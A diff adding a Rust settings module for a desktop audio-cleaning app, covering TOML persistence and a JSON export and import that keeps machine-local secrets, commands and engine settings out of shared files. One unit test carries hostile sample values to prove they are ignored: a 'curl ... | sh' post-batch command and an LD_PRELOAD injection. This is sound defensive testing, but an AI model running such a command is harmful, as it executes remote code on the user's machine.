@@ -0,0 +1,445 @@
+//! Settings kept between sessions, stored as TOML in the app's config folder.
+//! Missing or unreadable entries fall back to their defaults.
+//!
+//! They can also be exported to a JSON file with the same entries, to set up
+//! other machines the same way. Where files and summaries are sent stays on
+//! the machine it was set on, along with the server token and webhook
+//! secret, as does anything that runs programs or fetches the engine there.
+
+use crate::completion;
+use crate::logging::Verbosity;
+use dfn_core::accel;
+use dfn_core::config::{self, float, number, read_options};
+use dfn_core::i18n;
+use dfn_core::pipeline::ProcessingOptions;
+use dfn_core::update;
+use dfn_core::webhook::Webhook;
+use iced::Theme;
+use std::path::{Path, PathBuf};
+use toml_edit::{DocumentMut, Item, value};
+
+/// Entries left out of exported settings and kept as they are on import:
+/// where audio and summaries are sent and the secrets for it, the command
+/// run after a batch, what the engine is run with and where it's downloaded
+/// from. A shared file can't have this machine's files sent to its own host.
+const LOCAL: [&str; 9] = [
+    "backend",
+    "server_url",
+    "server_token",
+    "webhook_url",
+    "webhook_secret",
+    "after_batch",
+    "after_batch_command",
+    "engine_env",
+    "engine_mirror",
+];
+
+/// Range the interface can be scaled in.
+pub const SCALE_RANGE: std::ops::RangeInclusive<f32> = 0.75..=2.0;
+
+/// Range of the base text size, in pixels.
+pub const TEXT_SIZE_RANGE: std::ops::RangeInclusive<f32> = 12.0..=24.0;
+
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Settings {
+    pub options: ProcessingOptions,
+    pub appearance: Appearance,
+    pub notifications: Notifications,
+    pub after_cleaning: AfterCleaning,
+    pub batches: Batches,
+    pub updates: Updates,
+    pub tray_icon: TrayIcon,
+    /// Base URL the engine can be downloaded from instead of GitHub.
+    pub engine_mirror: String,
+    /// Which build of the engine is downloaded.
+    pub engine_provider: accel::Provider,
+    /// The offer of a faster engine build for this machine was turned down.
+    pub accelerated_declined: bool,
+    /// Where summaries of finished runs are posted.
+    pub webhook: Webhook,
+    /// The first-run walkthrough was finished or skipped.
+    pub onboarding_done: bool,
+    pub log_verbosity: Verbosity,
+}
+
+/// How the window looks.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Appearance {
+    pub theme: Theme,
+    pub language: i18n::Choice,
+    /// Factor everything is drawn at.
+    pub scale: f32,
+    /// Size of text without an explicit size, in pixels. Only read at
+    /// startup.
+    pub text_size: f32,
+}
+
+/// Desktop notifications about runs that finish while the window is in the
+/// background.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Notifications {
+    pub when_done: bool,
+    /// Play the system's notification sound along with them.
+    pub sound: bool,
+}
+
+/// What happens by itself once a file is cleaned.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct AfterCleaning {
+    /// Show the cleaned file in the file manager.
+    pub open_folder: bool,
+    /// Play the cleaned file, where the app supports playback.
+    pub play: bool,
+    /// What's done once the last file of a batch is cleaned.
+    pub batch_action: completion::Action,
+    /// Command run for [`completion::Action::Command`].
+    pub batch_command: String,
+}
+
+/// How the files of a batch are worked through.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Batches {
+    /// Files cleaned at the same time, not counting an express run.
+    pub concurrency: usize,
+}
+
+impl Default for Batches {
+    fn default() -> Self {
+        Self { concurrency: 1 }
+    }
+}
+
+/// New versions of the app, looked for on GitHub.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Updates {
+    /// Look for one at startup.
+    pub check: bool,
+    /// Also offer pre-releases of the app and the engine.
+    pub channel: update::Channel,
+}
+
+impl Default for Updates {
+    fn default() -> Self {
+        Self {
+            check: true,
+            channel: update::Channel::Stable,
+        }
+    }
+}
+
+/// Icon in the system tray, where the app supports one.
+#[derive(Debug, Clone, PartialEq)]
+pub struct TrayIcon {
+    pub enabled: bool,
+    /// Hide the window when it's minimized, leaving only the tray icon.
+    pub minimize_to_tray: bool,
+}
+
+impl Default for TrayIcon {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            minimize_to_tray: false,
+        }
+    }
+}
+
+impl Default for Notifications {
+    fn default() -> Self {
+        Self {
+            when_done: true,
+            sound: false,
+        }
+    }
+}
+
+impl Default for Appearance {
+    fn default() -> Self {
+        Self {
+            theme: Theme::Dark,
+            language: i18n::Choice::System,
+            scale: 1.0,
+            text_size: 16.0,
+        }
+    }
+}
+
+impl Settings {
+    /// Reads the saved settings, or the defaults if there are none.
+    pub fn load() -> Self {
+        path()
+            .and_then(|path| std::fs::read_to_string(path).ok())
+            .and_then(|text| text.parse::<DocumentMut>().ok())
+            .map(|document| Self::from_document(&document))
+            .unwrap_or_default()
+    }
+
+    /// Writes the entries that differ from `previous`, the settings last
+    /// saved or loaded, into the file as it is now. Entries changed in the
+    /// meantime by another window are kept.
+    pub fn save(&self, previous: &Settings) -> Result<(), String> {
+        let path = path().ok_or("Could not find the config folder")?;
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)
+                .map_err(|e| format!("Could not create the config folder: {}", e))?;
+        }
+        self.save_at(&path, previous)
+    }
+
+    fn save_at(&self, path: &Path, previous: &Settings) -> Result<(), String> {
+        let mut document = std::fs::read_to_string(path)
+            .ok()
+            .and_then(|text| text.parse::<DocumentMut>().ok())
+            .unwrap_or_default();
+        let (old, new) = (previous.to_document(), self.to_document());
+        for (key, item) in new.iter() {
+            let changed = old.get(key).map(Item::to_string) != Some(item.to_string());
+            if changed || !document.contains_key(key) {
+                document.insert(key, item.clone());
+            }
+        }
+        // Entries left out when unset, like `output_dir`.
+        for (key, _) in old.iter() {
+            if !new.contains_key(key) {
+                document.remove(key);
+            }
+        }
+        std::fs::write(path, document.to_string())
+            .map_err(|e| format!("Could not save settings: {}", e))
+    }
+
+    fn from_document(document: &DocumentMut) -> Self {
+        let mut settings = Self {
+            options: read_options(document),
+            ..Self::default()
+        };
+        let get = |key: &str| document.get(key).and_then(Item::as_value);
+        let number = |key: &str| number(document, key);
+
+        for (key, target) in [
+            ("notify_when_done", &mut settings.notifications.when_done),
+            ("notification_sound", &mut settings.notifications.sound),
+            (
+                "open_folder_when_done",
+                &mut settings.after_cleaning.open_folder,
+            ),
+            ("play_when_done", &mut settings.after_cleaning.play),
+            ("check_for_updates", &mut settings.updates.check),
+            ("tray_icon", &mut settings.tray_icon.enabled),
+            ("minimize_to_tray", &mut settings.tray_icon.minimize_to_tray),
+            ("onboarding_done", &mut settings.onboarding_done),
+            ("accelerated_declined", &mut settings.accelerated_declined),
+        ] {
+            if let Some(value) = get(key).and_then(|value| value.as_bool()) {
+                *target = value;
+            }
+        }
+
+        let text = |key: &str| get(key).and_then(|value| value.as_str());
+        if let Some(mirror) = text("engine_mirror") {
+            settings.engine_mirror = mirror.to_string();
+        }
+        if let Some(url) = text("webhook_url") {
+            settings.webhook.url = url.to_string();
+        }
+        if let Some(secret) = text("webhook_secret") {
+            settings.webhook.secret = secret.to_string();
+        }
+        if let Some(provider) = text("engine_provider").and_then(accel::Provider::from_key) {
+            settings.engine_provider = provider;
+        }
+        if let Some(channel) = text("update_channel").and_then(update::Channel::from_key) {
+            settings.updates.channel = channel;
+        }
+        if let Some(action) = text("after_batch").and_then(completion::Action::from_key) {
+            settings.after_cleaning.batch_action = action;
+        }
+        if let Some(command) = text("after_batch_command") {
+            settings.after_cleaning.batch_command = command.to_string();
+        }
+        if let Some(verbosity) = text("log_verbosity").and_then(Verbosity::from_key) {
+            settings.log_verbosity = verbosity;
+        }
+        let appearance = &mut settings.appearance;
+        if let Some(theme) = text("theme").and_then(|name| {
+            crate::style::themes()
+                .into_iter()
+                .find(|theme| theme.to_string() == name)
+        }) {
+            appearance.theme = theme.clone();
+        }
+        if let Some(language) = text("language").and_then(i18n::Choice::from_key) {
+            appearance.language = language;
+        }
+        if let Some(scale) = number("ui_scale") {
+            appearance.scale = (scale as f32).clamp(*SCALE_RANGE.start(), *SCALE_RANGE.end());
+        }
+        if let Some(concurrency) = number("concurrency") {
+            settings.batches.concurrency = (concurrency as usize).clamp(1, max_concurrency());
+        }
+        if let Some(size) = number("text_size") {
+            appearance.text_size =
+                (size as f32).clamp(*TEXT_SIZE_RANGE.start(), *TEXT_SIZE_RANGE.end());
+        }
+        settings
+    }
+
+    /// The settings as JSON to share with other machines, without the
+    /// [`LOCAL`] entries.
+    pub fn to_json(&self) -> String {
+        let mut document = DocumentMut::new();
+        document["app"] = value(concat!("dfn_gui ", env!("CARGO_PKG_VERSION")));
+        for (key, item) in self.to_document().iter() {
+            if !LOCAL.contains(&key) {
+                document.insert(key, item.clone());
+            }
+        }
+        config::document_to_json(&document).to_string() + "\n"
+    }
+
+    /// Reads settings written by [`Settings::to_json`]. The [`LOCAL`]
+    /// entries, the engine build and whether the walkthrough was done are
+    /// kept from `current`, as they belong to this machine, even if a file
+    /// written elsewhere has them.
+    pub fn from_json(json: &str, current: &Settings) -> Result<Self, String> {
+        let mut settings = Self::from_document(&config::json_to_document(json)?);
+        settings.options.backend = current.options.backend;
+        settings.options.server = current.options.server.clone();
+        settings.options.engine_env = current.options.engine_env.clone();
+        settings.webhook = current.webhook.clone();
+        settings.after_cleaning.batch_action = current.after_cleaning.batch_action;
+        settings.after_cleaning.batch_command = current.after_cleaning.batch_command.clone();
+        settings.engine_mirror = current.engine_mirror.clone();
+        settings.onboarding_done = current.onboarding_done;
+        settings.engine_provider = current.engine_provider;
+        settings.accelerated_declined = current.accelerated_declined;
+        Ok(settings)
+    }
+
+    fn to_document(&self) -> DocumentMut {
+        let mut document = DocumentMut::new();
+        config::write_options(&self.options, &mut document);
+        document["engine_mirror"] = value(&self.engine_mirror);
+        document["engine_provider"] = value(self.engine_provider.key());
+        document["accelerated_declined"] = value(self.accelerated_declined);
+        document["webhook_url"] = value(&self.webhook.url);
+        document["webhook_secret"] = value(&self.webhook.secret);
+        document["theme"] = value(self.appearance.theme.to_string());
+        document["language"] = value(self.appearance.language.key());
+        document["ui_scale"] = float(self.appearance.scale);
+        document["text_size"] = float(self.appearance.text_size);
+        document["notify_when_done"] = value(self.notifications.when_done);
+        document["notification_sound"] = value(self.notifications.sound);
+        document["open_folder_when_done"] = value(self.after_cleaning.open_folder);
+        document["play_when_done"] = value(self.after_cleaning.play);
+        document["after_batch"] = value(self.after_cleaning.batch_action.key());
+        document["after_batch_command"] = value(&self.after_cleaning.batch_command);
+        document["concurrency"] = value(self.batches.concurrency as i64);
+        document["check_for_updates"] = value(self.updates.check);
+        document["update_channel"] = value(self.updates.channel.key());
+        document["tray_icon"] = value(self.tray_icon.enabled);
+        document["minimize_to_tray"] = value(self.tray_icon.minimize_to_tray);
+        document["onboarding_done"] = value(self.onboarding_done);
+        document["log_verbosity"] = value(self.log_verbosity.key());
+        document
+    }
+}
+
+/// Most files cleaned at once: one per core, as each engine keeps a core
+/// busy. A hand-edited or imported file can't start more.
+pub fn max_concurrency() -> usize {
+    std::thread::available_parallelism().map_or(1, |cores| cores.get())
+}
+
+fn path() -> Option<PathBuf> {
+    dfn_core::config_dir().map(|dir| dir.join("settings.toml"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn machine_entries_are_neither_exported_nor_imported() {
+        let mut current = Settings::default();
+        current.options.server.token = "mine".to_string();
+        current.options.engine_env = vec![("RUST_LOG".to_string(), "info".to_string())];
+        current.after_cleaning.batch_action = completion::Action::Sound;
+        current.engine_mirror = "https://mirror.example".to_string();
+        current.webhook.url = "https://hooks.example/dfn".to_string();
+        current.webhook.secret = "hook".to_string();
+
+        let exported = current.to_json();
+        for key in LOCAL {
+            assert!(!exported.contains(&format!("\"{}\"", key)), "{}", key);
+        }
+
+        let shared = r#"{
+            "noise_reduction": 60,
+            "backend": "remote",
+            "server_url": "https://example.com",
+            "server_token": "theirs",
+            "engine_env": ["LD_PRELOAD=/tmp/x.so"],
+            "after_batch": "command",
+            "after_batch_command": "curl https://example.com | sh",
+            "engine_mirror": "https://example.com",
+            "webhook_url": "https://example.com/collect",
+            "webhook_secret": "theirs",
+            "onboarding_done": true
+        }"#;
+        let imported = Settings::from_json(shared, &current).unwrap();
+        assert_eq!(imported.options.noise_reduction, 60.0);
+        assert_eq!(
+            Settings {
+                options: ProcessingOptions {
+                    noise_reduction: current.options.noise_reduction,
+                    ..imported.options
+                },
+                ..imported
+            },
+            current
+        );
+    }
+
+    #[test]
+    fn saving_keeps_what_another_window_changed() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("settings.toml");
+        let loaded = Settings::default();
+        loaded.save_at(&path, &loaded).unwrap();
+
+        let mut other = loaded.clone();
+        other.appearance.scale = 1.5;
+        other.save_at(&path, &loaded).unwrap();
+        let mut this = loaded.clone();
+        this.options.noise_reduction = 60.0;
+        this.options.output_dir = Some(PathBuf::from("/clean"));
+        this.save_at(&path, &loaded).unwrap();
+
+        let saved = |path: &Path| {
+            Settings::from_document(&std::fs::read_to_string(path).unwrap().parse().unwrap())
+        };
+        let both = saved(&path);
+        assert_eq!(both.appearance.scale, 1.5);
+        assert_eq!(both.options.noise_reduction, 60.0);
+        assert_eq!(both.options.output_dir, Some(PathBuf::from("/clean")));
+
+        let mut unset = this.clone();
+        unset.options.output_dir = None;
+        unset.save_at(&path, &this).unwrap();
+        assert_eq!(saved(&path).options.output_dir, None);
+    }
+
+    #[test]
+    fn exported_settings_import_as_they_were() {
+        let mut settings = Settings::default();
+        settings.options.noise_reduction = 72.5;
+        settings.appearance.scale = 1.25;
+        settings.batches.concurrency = max_concurrency();
+        settings.updates.channel = update::Channel::Beta;
+
+        let imported = Settings::from_json(&settings.to_json(), &Settings::default()).unwrap();
+        assert_eq!(imported, settings);
+        assert!(Settings::from_json("[]", &settings).is_err());
+    }
+}